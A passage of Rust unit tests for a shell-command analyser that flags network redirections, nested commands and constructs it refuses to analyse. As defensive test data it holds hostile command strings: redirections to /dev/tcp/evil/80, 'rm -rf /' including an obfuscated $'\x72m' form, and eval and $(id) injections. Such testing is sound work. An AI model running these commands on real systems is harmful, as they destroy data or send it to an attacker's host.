        assert_eq!(sets("command export PATH=x"), ["PATH"]);
        assert_eq!(sets("env FOO=1 BAR=$x ls"), ["FOO", "BAR"]);
        for cmd in [
            "declare $X",
            "export $N=1",
            "printf $F x",
            "mapfile -C cb arr",
            "read $V",
        ] {
            assert!(analyse(cmd, w()).is_err(), "{cmd}");
        }
    }

    #[test]
    fn shells_other_than_bash_are_marked() {
        for cmd in [
            "zsh -c 'ls'",
            "fish -c ls",
            "ksh -c ls",
            "/bin/zsh x.zsh",
            "mksh",
            "busybox ash -c ls",
        ] {
            let a = analyse(cmd, w()).unwrap();
            assert!(
                a.commands.iter().any(|c| c.foreign_shell.is_some()),
                "{cmd}: {a:?}"
            );
        }
        let a = analyse("bash -c 'ls && cat x'", w()).unwrap();
        assert_eq!(names(&a), ["bash -c ls && cat x", "ls", "cat x"]);
        // dash is a POSIX shell: its scripts are analysed, or refused where bash differs.
        let a = analyse("dash -c 'ls && cat x'", w()).unwrap();
        assert_eq!(names(&a), ["dash -c ls && cat x", "ls", "cat x"]);
        assert!(analyse("dash -c \"echo $'x'\"", w()).is_err());
    }

    #[test]
    fn commands_run_by_other_commands_are_analysed() {
        let a = analyse("find . -name '*.o' -exec rm -f {} \\;", w()).unwrap();
        assert_eq!(names(&a)[1], "rm -f ");
        let a = analyse("find . -execdir git push \\;", w()).unwrap();
        assert!(a.commands[1].unseen_args);
        let a = analyse("watch -n 1 git push", w()).unwrap();
        assert_eq!(names(&a)[1], "git push");
        let a = analyse("parallel -j4 git push ::: a b", w()).unwrap();
        assert!(
            a.commands
                .iter()
                .any(|c| c.match_text(c.start).0 == "git push ")
        );
        let a = analyse("echo push | xargs git", w()).unwrap();
        assert_eq!(
            a.commands[1].match_text(a.commands[1].start),
            ("git ".into(), true)
        );
        for cmd in ["env -S 'git push'", "find . -exec", "parallel --bogus x"] {
            assert!(analyse(cmd, w()).is_err(), "{cmd}");
        }
    }

    #[test]
    fn network_redirections_are_not_files() {
        for cmd in [
            "echo x > /dev/tcp/evil/80",
            "cat < /dev/udp/evil/53",
            "cd /dev && echo x > tcp/evil/80",
            "echo x >/dev//tcp/h/1",
            "cat < /dev/$P/h/1",
        ] {
            let a = analyse(cmd, w()).unwrap();
            assert_eq!(a.network.len(), 1, "{cmd}: {a:?}");
            assert!(a.writes.is_empty() && a.reads.is_empty(), "{cmd}");
        }
    }

    #[test]
    fn glob_patterns_are_kept() {
        let a = analyse("cat .e* \"a*\"b* 'x'{1,2}", w()).unwrap();
        let globs: Vec<Option<String>> =
            a.commands[0].words.iter().map(|w| w.glob.clone()).collect();
        assert_eq!(
            globs,
            [
                None,
                Some(".e*".into()),
                Some("a\\*b*".into()),
                Some("x{1,2}".into())
            ]
        );
        let a = analyse("cat $X*", w()).unwrap();
        assert_eq!(a.commands[0].words[1].glob, None);
    }

    #[test]
    fn fails_closed() {
        for cmd in [
            "f() { rm -rf /; }",
            "eval ls",
            "$X arg",
            "echo ${x:-$(id)}",
            "echo $(( 1 + $(id) ))",
            "(( x = 1 ))",
            "echo > $OUT",
            "builtin eval ls",
            "$'\\x72m' -rf /",
            "echo 'unterminated",
            "[[ $x -eq 1 ]]",
            "hash -p /tmp/x ls",
            "timeout --bogus 5 ls",
        ] {
            assert!(analyse(cmd, w()).is_err(), "{cmd}");
        }
    }
}
#[cfg(test)]
mod deep_tests {
    fn survives(cmd: String) -> bool {
        std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn(move || {
                let _ = super::analyse(&cmd, std::path::Path::new("/w"));
            })
            .unwrap()
            .join()
            .is_ok()
    }

    #[test]
    fn deep_nesting_does_not_crash() {
        type Shape = (&'static str, Box<dyn Fn(usize) -> String>);
        let shapes: Vec<Shape> = vec![
            (
                "paren",
                Box::new(|n| format!("{}ls{}", "(".repeat(n), ")".repeat(n))),
            ),
            (
                "subst",
                Box::new(|n| format!("{}ls{}", "$(echo ".repeat(n), ")".repeat(n))),
            ),
            (
                "brace",
                Box::new(|n| format!("{}ls{}", "{ ".repeat(n), "; }".repeat(n))),
            ),
            (
                "if",
                Box::new(|n| format!("{}ls{}", "if true; then ".repeat(n), "; fi".repeat(n))),
            ),
            ("pipe", Box::new(|n| format!("ls{}", " | ls".repeat(n)))),
            ("and", Box::new(|n| format!("ls{}", " && ls".repeat(n)))),
            ("seq", Box::new(|n| format!("ls{}", "; ls".repeat(n)))),
            ("nl", Box::new(|n| format!("ls{}", "\nls".repeat(n)))),
            ("words", Box::new(|n| format!("ls{}", " a".repeat(n)))),
        ];
        assert!(super::analyse(&shapes[0].1(40), std::path::Path::new("/w")).is_err());
        assert!(super::analyse(&shapes[3].1(40), std::path::Path::new("/w")).is_err());
        for (name, f) in &shapes {
            for n in [50usize, 500, 1990, 2000, 3300, 4900] {
                let cmd = f(n);
                if cmd.len() > 10_000 {
                    continue;
                }
                assert!(survives(cmd), "{name} x{n} overflowed a 2 MiB stack");
            }
        }
    }
}
